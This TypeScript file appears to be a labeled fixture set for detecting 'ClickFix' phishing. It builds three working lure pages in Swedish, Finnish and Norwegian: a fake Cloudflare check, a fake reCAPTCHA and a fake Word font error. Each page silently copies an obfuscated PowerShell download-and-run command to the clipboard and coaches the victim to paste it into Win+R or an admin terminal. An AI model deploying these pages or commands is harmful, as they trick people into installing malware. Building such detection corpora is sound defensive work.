import { type Entry } from '../entry.js';
import { doc, codes, chunks } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const cmd = `powershell -w h -nop -c "iex(irm 'https://cf-verifiering.se-kontroll.com/ray/9a41.txt')" # ✅ Jag är inte en robot – Cloudflare Ray ID: 8f2a41c7de91b3a0`;
  return {
    id: 'yx-clickfix-cloudflare-sv',
    label: 'clickfix',
    kind: 'clickfix-fake-cloudflare',
    url: 'https://www.bilverkstad-nykvarn.se/boka-service/?cf_chl=1',
    body: doc({
      lang: 'sv',
      title: 'Ett ögonblick…',
      css: `body{margin:0;font-family:-apple-system,"Segoe UI",Arial;background:#fff;color:#313131}.w{max-width:640px;margin:12vh auto 0;padding:0 20px}h1{font-size:30px;font-weight:500}.box{display:flex;align-items:center;justify-content:space-between;border:1px solid #e0e0e0;background:#fafafa;padding:14px 16px;width:300px}.box input{width:26px;height:26px}
.cf{font-size:10px;text-align:right;color:#555}.steps{display:none;border:1px solid #e0e0e0;padding:16px 20px;margin-top:16px;width:460px}.steps ol{padding-left:18px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:inherit}.foot{margin-top:60px;font-size:12px;color:#888;border-top:1px solid #eee;padding-top:10px}`,
      body: `<div class="w"><h1>www.bilverkstad-nykvarn.se</h1><p>Verifiera att du är en människa genom att slutföra åtgärden nedan.</p>
<div class="box"><label><input type="checkbox" id="cb"> Jag är en människa</label><div class="cf"><b>CLOUDFLARE</b><br>Sekretess · Villkor</div></div>
<div class="steps" id="st"><b>Verifieringssteg</b><ol><li>Tryck på <kbd>⊞ Windows</kbd> + <kbd>R</kbd></li><li>Tryck på <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Tryck på <kbd>Enter</kbd></li></ol><p style="font-size:13px">Genom att slutföra stegen bekräftar du att du inte är en robot (Verifierings-ID: 8f2a41).</p></div>
<p>www.bilverkstad-nykvarn.se måste granska säkerheten för din anslutning innan du kan fortsätta.</p><div class="foot">Ray ID: <code>8f2a41c7de91b3a0</code> · Prestanda och säkerhet av Cloudflare</div></div>
<script>
var c=[${chunks(cmd, 23)}].join('');
document.getElementById('cb').addEventListener('change',function(){
  var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
  if(navigator.clipboard)navigator.clipboard.writeText(c).catch(function(){});
  document.getElementById('st').style.display='block';
});
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const ps = `$ProgressPreference='SilentlyContinue';$d="$env:APPDATA\\Tsv";md $d -ea 0;iwr 'https://recaptcha-tarkistus.fi-cdn.net/p/pkg.zip' -OutFile "$d\\p.zip";Expand-Archive "$d\\p.zip" $d -Force;Start-Process "$d\\Tsv.exe"`;
  const enc = Buffer.from(ps, 'utf16le').toString('base64');
  const full = `cmd /c start /min powershell -w h -ep bypass -e ${enc}`;
  return {
    id: 'yx-clickfix-recaptcha-fi-charcodes',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://www.kotileipomo-aurinko.fi/tilaa/kakut?v=2',
    body: doc({
      lang: 'fi',
      title: 'Varmistus',
      css: `body{margin:0;font-family:Roboto,Arial;background:rgba(0,0,0,.55)}.rc{width:300px;margin:18vh auto 0;background:#f9f9f9;border:1px solid #d3d3d3;border-radius:3px;padding:14px;display:flex;justify-content:space-between;align-items:center}.ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}.lg{font-size:9px;color:#555;text-align:center}
.pop{display:none;width:380px;margin:10px auto;background:#fff;border-radius:4px;padding:18px;box-shadow:0 4px 20px rgba(0,0,0,.4)}.pop h3{margin:0 0 6px;background:#1a73e8;color:#fff;padding:14px;margin:-18px -18px 12px}kbd{background:#eee;border:1px solid #aaa;padding:1px 5px;border-radius:3px}`,
      body: `<div class="rc"><div style="display:flex;gap:12px;align-items:center"><div class="ck" id="ck"></div><span>En ole robotti</span></div><div class="lg">reCAPTCHA<br>Tietosuoja - Ehdot</div></div>
<div class="pop" id="p"><h3>Vahvistusvaiheet</h3><p>1. Paina <kbd>Windows</kbd> + <kbd>R</kbd></p><p>2. Paina <kbd>CTRL</kbd> + <kbd>V</kbd></p><p>3. Paina <kbd>Enter</kbd>-näppäintä</p><p style="font-size:12px;color:#666">Suorittamalla nämä vaiheet vahvistat, että olet ihminen. reCAPTCHA-vahvistustunnus: 7712</p></div>
<script>
var q=[${codes(full)}];
document.getElementById('ck').onclick=function(){var s=String.fromCharCode.apply(null,q);var t=document.createElement('textarea');t.value=s;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.focus();t.select();try{document.execCommand('copy')}catch(e){}t.remove();this.style.borderColor='#1a73e8';document.getElementById('p').style.display='block'};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const cmd = `$u='https://office-font-fix.no-support.net/fonts/CalibriNordic.zip';$o="$env:TEMP\\cn.zip";Invoke-WebRequest $u -OutFile $o;Expand-Archive $o "$env:LOCALAPPDATA\\FontCache" -Force;Start-Process "$env:LOCALAPPDATA\\FontCache\\FontInstaller.exe" -WindowStyle Hidden`;
  return {
    id: 'yx-clickfix-word-font-missing-no',
    label: 'clickfix',
    kind: 'clickfix-fake-fix-it',
    url: 'https://docs-viewer.office365-no.online/vis/Kontrakt_Hytte_2025.docx',
    body: doc({
      lang: 'no',
      title: 'Kontrakt_Hytte_2025.docx – Word Online',
      css: `body{margin:0;font-family:"Segoe UI",Arial;background:#e6e6e6}.rib{background:#2b579a;color:#fff;padding:10px 18px}.pg{width:640px;margin:20px auto;background:#fff;height:720px;padding:50px;box-sizing:border-box;color:transparent;text-shadow:0 0 7px #777}.err{position:fixed;top:22%;left:50%;transform:translateX(-50%);width:480px;background:#fff;border-top:4px solid #d83b01;box-shadow:0 8px 32px rgba(0,0,0,.35);padding:22px}code{display:block;background:#f3f3f3;padding:8px;font-size:11px;white-space:nowrap;overflow:hidden;text-overflow:ellipsis}button{background:#2b579a;color:#fff;border:0;padding:10px 18px}`,
      body: `<div class="rib">Word · Kontrakt_Hytte_2025.docx · Skrivebeskyttet</div><div class="pg"><h2>LEIEKONTRAKT</h2><p>Mellom utleier og leietaker er det i dag inngått følgende avtale om leie av fritidsbolig …</p></div>
<div class="err"><h3 style="margin-top:0">⚠ Dokumentet kan ikke vises riktig</h3><p>Skriften <b>«Calibri Nordic»</b> er ikke installert på datamaskinen din. Følg trinnene for å installere skriften automatisk:</p>
<ol><li>Klikk <b>Kopier løsning</b></li><li>Høyreklikk på Start-knappen og velg <b>Terminal (Administrator)</b></li><li>Lim inn med høyreklikk og trykk <b>Enter</b></li><li>Last inn siden på nytt</li></ol><code id="c"></code><br><button id="b">Kopier løsning</button></div>
<script>var C=${JSON.stringify(cmd)};document.getElementById('c').textContent=C;document.getElementById('b').onclick=function(){navigator.clipboard.writeText(C).then(function(){document.getElementById('b').textContent='Kopiert ✓'})};</script>`,
    }),
  } satisfies Entry;
})(),
];
